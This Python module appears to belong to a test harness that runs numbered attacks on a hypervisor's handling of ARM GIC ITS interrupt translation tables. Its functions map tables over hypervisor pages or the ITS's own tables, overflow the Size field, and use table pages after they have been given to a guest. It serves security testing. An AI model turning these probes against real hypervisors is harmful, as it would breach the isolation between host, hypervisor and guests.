"""Attacks through interrupt translation tables: A4, A5, A12, and what goes wrong when their pages are given back.

MAPD hands a range of memory to the ITS. These attacks hand over memory that is not the host's, more of it than was checked, or
memory that stops being the host's while the ITS still uses it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from itsbox.arch.its_commands import DISCARD, INT, MAPD, MAPTI, SYNC
from itsbox.arch.its_tables import ITT_ALIGNMENT
from itsbox.arch.values import FIRST_LPI, PAGE_SHIFT, PAGE_SIZE
from itsbox.host.attacks import EVENT_BITS

if TYPE_CHECKING:
    from itsbox.host.attacks import HostileHost

__all__ = [
    "early_release", "foreign_release", "itt_in_hyp_page", "itt_over_own_tables", "itt_too_long", "preswitch_itt",
    "unshared_itt",
]  # fmt: skip

_DEVICE: Final = 0x60
_ITE_BYTES: Final = 12
_WIDEST: Final = 15
"""MAPD's Size for 16 EventID bits, the most that GITS_TYPER of the ``virt`` machines allows."""


def _map(device_id: int, itt: int, size: int = EVENT_BITS) -> MAPD:
    return MAPD(device_id=device_id, size=size, itt_addr=itt, valid=1)


def _unmap(device_id: int, itt: int = 0, size: int = EVENT_BITS) -> MAPD:
    return MAPD(device_id=device_id, size=size, itt_addr=itt, valid=0)


def _event(device_id: int, event_id: int = 0, intid: int = FIRST_LPI + 0x1AA) -> MAPTI:
    return MAPTI(device_id=device_id, event_id=event_id, intid=intid, icid=0)


def itt_in_hyp_page(host: HostileHost) -> None:
    """A4: MAPD names a hypervisor page as translation table; MAPTI writes into it. No table is touched by the host."""
    victim = host.hyp_page(6)
    host.show("The victim: a page of the hypervisor, before.", victim)
    for n, (itt, whose) in enumerate((
        (victim, "the hypervisor's"),
        (victim + ITT_ALIGNMENT, "the hypervisor's, not page aligned"),
        (host.guest_page(1), "the guest's"),
        (host.guest_page(1) + ITT_ALIGNMENT, "the guest's, not page aligned"),
    )):  # fmt: skip
        host.say(f"Map device {_DEVICE + n:#x} with a translation table in a page that is {whose}.")
        host.post(_map(_DEVICE + n, itt))
        host.say("Map an event: its entry goes there.")
        host.post(_event(_DEVICE + n))
    host.show("The same page, after.", victim)


def itt_over_own_tables(host: HostileHost) -> None:
    """A4 with a twist: the table is put over memory that the hypervisor holds for the ITS itself, the old queue first."""
    host.without_hypervisor(_DEVICE + 12)  # first: without one, the ITS loses its own device table below
    its = host.before.its[0]
    targets = (its.queue, *(baser.base for baser in its.basers if baser.base))
    for n, target in enumerate(targets):
        host.say("Map a device with its translation table over the ITS's own queue or tables.")
        host.map_at(_DEVICE + 8 + n, target)
        host.post(_event(_DEVICE + 8 + n))


def itt_too_long(host: HostileHost) -> None:
    """A5: a Size whose table reaches beyond the host's last page, or is computed too small."""
    last = host.box.map.guest - PAGE_SIZE
    host.say("A translation table that begins in the host's last page and ends in the guest's memory.")
    for itt in (last + ITT_ALIGNMENT, last):
        host.post(_map(_DEVICE + 16, itt, _WIDEST))
    event_id = (2 * PAGE_SIZE) // _ITE_BYTES
    host.say("An event whose entry lies behind the border.")
    host.post(_event(_DEVICE + 16, event_id))
    host.show("The guest's first page.", host.box.map.guest)
    host.say("Sizes beyond GITS_TYPER.ID_bits: 2^(Size+1) overflows where it is computed in 32 bits.")
    for size in (16, 30, 31):
        host.post(_map(_DEVICE + 17, host.pages(4) + ITT_ALIGNMENT, size))
    host.say("Map small, then map again large in the same place: only the first was checked if checks are remembered.")
    page = host.pages(2)
    for itt in (page + ITT_ALIGNMENT, page):
        host.post(_map(_DEVICE + 18, itt, 1))
        host.post(_map(_DEVICE + 18, itt, _WIDEST))
    host.give_away(page + PAGE_SIZE * 8)
    host.post(_event(_DEVICE + 18, 8 * PAGE_SIZE // _ITE_BYTES))


def early_release(host: HostileHost) -> None:
    """A12: the page goes to a guest while the ITS has not yet seen the MAPD that ends its use."""
    itt = host.needs_own(_DEVICE + 24)
    page = itt >> PAGE_SHIFT << PAGE_SHIFT
    host.say("Disable the ITS: commands wait in the queue, unseen.")
    host.enable(False)
    host.say("Queue an event for the device, then the end of the device, and announce both.")
    offset = host.put(_event(_DEVICE + 24, 3), host.write_offset)
    offset = host.put(_unmap(_DEVICE + 24, itt), offset)
    host.ring(offset)
    host.write_offset = offset
    host.say("If the table's page was released when the command was read, it can be given away now.")
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    given = host.give_away(page)
    host.show(
        "The page, given to the guest." if given else "The page, which could not be given away.", itt + 3 * _ITE_BYTES
    )
    host.say("Enable the ITS: it carries the waiting commands out, in order.")
    host.enable(True)
    host.show("The page, after.", itt + 3 * _ITE_BYTES)
    host.say(
        "Under no hypervisor the page cannot change hands; the same attack takes a page that never was the host's."
    )
    if not given and host.box.phase == "trusted":
        host.post(_map(_DEVICE + 25, host.guest_page(2)), _event(_DEVICE + 25, 3), _unmap(_DEVICE + 25))


def unshared_itt(host: HostileHost) -> None:
    """The table's page is unshared by hypercall and given to a guest while its device lives on."""
    itt = host.needs_own(_DEVICE + 32)
    page = itt >> PAGE_SHIFT << PAGE_SHIFT
    host.say("End the sharing of the table's page by hypercall, and give the page to a guest.")
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    host.give_away(page)
    host.say("Map an event of the device.")
    host.post(_event(_DEVICE + 32, 1))
    host.show("The page, after.", itt + _ITE_BYTES)
    host.say("Reach it by INT and DISCARD as well.")
    host.post(INT(device_id=_DEVICE + 32, event_id=1), DISCARD(device_id=_DEVICE + 32, event_id=1))
    host.without_hypervisor(_DEVICE + 33)


def foreign_release(host: HostileHost) -> None:
    """Unmapping one device names the table of another, whose pages are then released and given away."""
    victim = host.needs_own(_DEVICE + 40)
    other = host.needs_own(_DEVICE + 41)
    page = victim >> PAGE_SHIFT << PAGE_SHIFT
    host.say("Unmap one device, with the translation table of the other in the fields that V=0 makes the ITS ignore.")
    host.post(_unmap(_DEVICE + 41, victim))
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    host.give_away(page)
    host.say("The other device is still mapped: map an event of it.")
    host.post(_event(_DEVICE + 40, 2))
    host.show("The table of the device that lives on.", victim + 2 * _ITE_BYTES)
    host.say(
        "Map the first device again, over a page that both share, and unmap it: is the page still held for the other?"
    )
    shared = host.needs_own(_DEVICE + 42)
    host.post(_map(_DEVICE + 43, shared + 2 * ITT_ALIGNMENT), _unmap(_DEVICE + 43, shared + 2 * ITT_ALIGNMENT))
    host.hvc("__pkvm_host_unshare_hyp", shared >> PAGE_SHIFT)
    host.give_away(shared >> PAGE_SHIFT << PAGE_SHIFT)
    host.post(_event(_DEVICE + 42, 2), SYNC(rd_base=host.rd_base()))
    host.say("Remap a live device elsewhere: the old table's page is released, or leaked, or released too often.")
    again = host.pages(2)
    host.post(_map(_DEVICE + 42, again + ITT_ALIGNMENT), _event(_DEVICE + 42, 1))
    host.show("The table, after.", other)
    host.without_hypervisor(_DEVICE + 44)


def preswitch_itt(host: HostileHost) -> None:
    """A device mapped before the switch-over: is its table's page held? Give it to a guest and use the device."""
    device = next(iter(host.known.its[0].devices.values()), None)
    if device is None:
        return
    page = device.itt >> PAGE_SHIFT << PAGE_SHIFT
    host.say("Give the page with the translation table of a device that was mapped long before to a guest.")
    host.hvc("__pkvm_host_unshare_hyp", page >> PAGE_SHIFT)
    host.give_away(page)
    host.say("Map one more event of the device, then let the device send it.")
    host.post(_event(device.device_id, 0, FIRST_LPI + 0x40))
    host.msi(device.device_id, 0)
    host.show("The page, after.", device.itt)
    host.without_hypervisor(_DEVICE + 48)
